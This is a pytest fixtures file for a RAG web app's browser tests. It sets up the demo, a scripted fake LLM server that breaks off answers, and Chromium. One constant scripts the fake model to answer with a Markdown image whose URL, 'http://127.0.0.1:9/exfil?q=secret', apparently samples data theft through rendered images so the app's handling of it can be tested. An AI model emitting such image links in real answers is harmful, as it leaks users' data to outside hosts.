"""Fixtures for the web app's tests: `app.demo` launched on a free port, a broken LLM server, Chromium.

The app is imported with the session's temporary cache and with an OpenAI-compatible backend that
points at `benchmarks.fake_llm`, a real HTTP server on 127.0.0.1, scripted to start every answer
and end it without finishing (to show how errors mid-stream look). The shipped index is built (the
`kb` fixture) before the server starts, so no test waits for it inside a timeout.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from benchmarks.fake_llm import Reply, fake_llm
from benchmarks.local import free_port

PROJECT_DIR = Path(__file__).resolve().parent.parent
ARTIFACTS_DIR = PROJECT_DIR / "test-artifacts"
BROKEN_ANSWER = ["Half", " of", " an", " answer", " and"]
# Asked a question holding IMAGE_TRIGGER, the server answers in full with a Markdown image of a URL.
IMAGE_TRIGGER = "blorptex"
IMAGE_ANSWER = ["The reading is 17 ", "![chart](http://127.0.0.1:9/exfil?q=secret)", " [1]"]
MAX_UPLOAD_FILES = 3
# Gradio's queue statistics use pandas options that pandas 3 deprecates: not ours to fix, and noisy.
GRADIO_QUEUE_PANDAS_WARNINGS = "ignore::Warning:gradio.queueing"
MAX_UPLOAD_MB = 1


def broken_or_image_reply(request: dict[str, Any]) -> Reply:
    """The first words of an answer, never finished (but IMAGE_ANSWER in full to a question holding IMAGE_TRIGGER)."""
    if IMAGE_TRIGGER in json.dumps(request):
        return Reply(IMAGE_ANSWER)
    return Reply(BROKEN_ANSWER, finish=False)


@pytest.fixture(scope="session")
def broken_chat_server() -> Iterator[str]:
    """The base URL of a chat server that breaks off every answer."""
    with fake_llm(broken_or_image_reply) as server:
        yield server.url


@pytest.fixture(scope="session")
def app_module(cache_dir, kb, broken_chat_server) -> ModuleType:
    """`app`, imported with the session's cache, small upload limits and the broken chat server as `openai`."""
    with pytest.MonkeyPatch.context() as env:
        env.setenv("RAG_CACHE_DIR", str(cache_dir))
        env.setenv("RAG_LLM_BASE_URL", broken_chat_server)
        env.setenv("RAG_LLM_MODEL", "test-model")
        env.setenv("RAG_MAX_UPLOAD_FILES", str(MAX_UPLOAD_FILES))
        env.setenv("RAG_MAX_UPLOAD_MB", str(MAX_UPLOAD_MB))
        import app
        from rag.web.handlers import BACKENDS
    assert "openai" in BACKENDS, f"the openai backend should be offered, got {BACKENDS}"
    return app


@pytest.fixture(scope="session")
def handlers(app_module) -> ModuleType:
    """`rag.web.handlers` as `app` imported it: the handlers and the sessions they share."""
    return sys.modules["rag.web.handlers"]


@pytest.fixture(scope="session")
def app_url(app_module) -> Iterator[str]:
    """The URL of `app.demo`, launched on 127.0.0.1 for the whole session."""
    demo = app_module.demo
    _, url, _ = demo.launch(
        server_name="127.0.0.1",
        server_port=free_port(),
        prevent_thread_lock=True,
        ssr_mode=False,
        quiet=True,
        **app_module.APPEARANCE,
    )
    yield url
    demo.close()


@pytest.fixture(scope="session")
def chromium():
    """Debian's Chromium, driven by Playwright (never a downloaded browser)."""
    from playwright.sync_api import sync_playwright

    from benchmarks.browser import CHROMIUM, CHROMIUM_ARGS

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture(scope="session")
def artifacts_dir() -> Path:
    ARTIFACTS_DIR.mkdir(exist_ok=True)
    return ARTIFACTS_DIR
